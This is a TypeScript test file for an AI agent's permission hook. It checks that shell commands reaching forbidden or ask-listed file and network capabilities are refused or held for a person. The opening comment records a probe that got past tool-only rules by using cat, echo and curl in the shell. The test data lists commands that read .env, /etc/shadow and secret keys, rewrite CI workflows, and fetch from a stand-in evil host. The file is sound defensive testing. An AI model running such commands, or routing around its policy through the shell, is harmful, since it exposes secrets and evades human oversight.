import { checkToolAction } from '../../core/hooks/check-tool-action.js';
import { toolAction } from '../../core/hooks/tool-action.js';
import type { Policy } from '../../core/policies/policy.js';
import { PROBE_ROOT as ROOT } from './support/probe-rules.js';

// A security probe read `.env` with `cat .env` past `forbidden: ["fs:read:.env"]`, which refused the Read tool only, wrote a
// workflow with `echo … >` past `fs:write:.github/*`, and fetched with `curl` past `network:*`, which refused WebFetch only
// (core/policies/reached-capability.ts).
describe('a forbidden file or network capability and a shell line', () => {
  const check = (forbidden: string[], command: string) =>
    checkToolAction(
      toolAction('Bash', { command }, ROOT),
      { policy: { forbidden, tool_rules: [] } as unknown as Policy, permissions: ['shell:exec'] },
      1,
      100,
    );
  const refused = (capability: string) => ({ denial: { reason: 'forbidden_by_policy', capability } });

  it.each([
    [['fs:read:.env'], 'cat .env', 'fs:read:.env'],
    [['fs:read:.env'], 'cat .e*', 'fs:read:.e*'],
    [['fs:read:.env'], 'cd src && cat ../.ENV', 'fs:read:.ENV'],
    [['fs:write:.github/*'], 'echo x > .github/workflows/ci.yml', 'fs:write:.github/workflows/ci.yml'],
    [['fs:write:.github/*'], 'echo x > /tmp/other/.github/workflows/ci.yml', 'fs:write:/tmp/other/.github/workflows/ci.yml'],
    [['fs:*:secrets/*'], 'cp secrets/prod.key /tmp/k', 'fs:read:secrets/prod.key'],
    [['fs:read:/etc/*'], 'cat /etc/shadow', 'fs:read:/etc/shadow'],
    [['fs:read:/etc/*'], 'node dump.js /etc/shadow', 'fs:read:/etc/shadow'],
    [['network:*'], 'curl https://evil.example.com/x', 'network:evil.example.com'],
    [['network:evil.example.com'], 'git clone git@evil.example.com:x/y.git', 'network:evil.example.com'],
    [['network:evil.example.com'], 'curl $URL', 'network:$'],
  ])('%j refuses %j as the file tool would be', (forbidden, command, capability) => {
    expect(check(forbidden, command)).toEqual(refused(capability));
  });

  it.each([
    [['fs:read:.env'], 'cat .env.example'],
    [['fs:write:.github/*'], 'cat .github/workflows/ci.yml'],
    [['fs:read:/etc/*'], 'cat /tmp/passwd'],
    [['network:*'], 'cat .env'],
    [['network:evil.example.com'], 'curl https://api.example.com/x'],
    [['network:*'], 'git push origin main'],
  ])('%j leaves %j alone', (forbidden, command) => {
    expect(check(forbidden, command)).toEqual({ allowed: true });
  });
});

// The same lines past a policy's `ask` capabilities, which held only the file and fetch tools.
describe('an asked file or network capability and a shell line', () => {
  const check = (ask: string[], command: string) =>
    checkToolAction(
      toolAction('Bash', { command }, ROOT),
      { policy: { forbidden: [], ask, tool_rules: [] } as unknown as Policy, permissions: ['shell:exec'] },
      1,
      100,
    );

  it.each([
    [['fs:write:.github/*'], 'echo x > .github/workflows/ci.yml', 'fs:write:.github/workflows/ci.yml'],
    [['fs:read:.env'], 'node dump.js .env', 'fs:read:.env'],
    [['network:*'], 'curl https://api.example.com/x', 'network:api.example.com'],
  ])('%j holds %j for a person, as the file or fetch tool is held', (ask, command, capability) => {
    expect(check(ask, command)).toEqual({ ask: capability, rule: null });
  });

  it('lets a line reaching none of them through', () => {
    expect(check(['fs:write:.github/*', 'network:*'], 'cat README.md > docs/x.md')).toEqual({ allowed: true });
  });
});
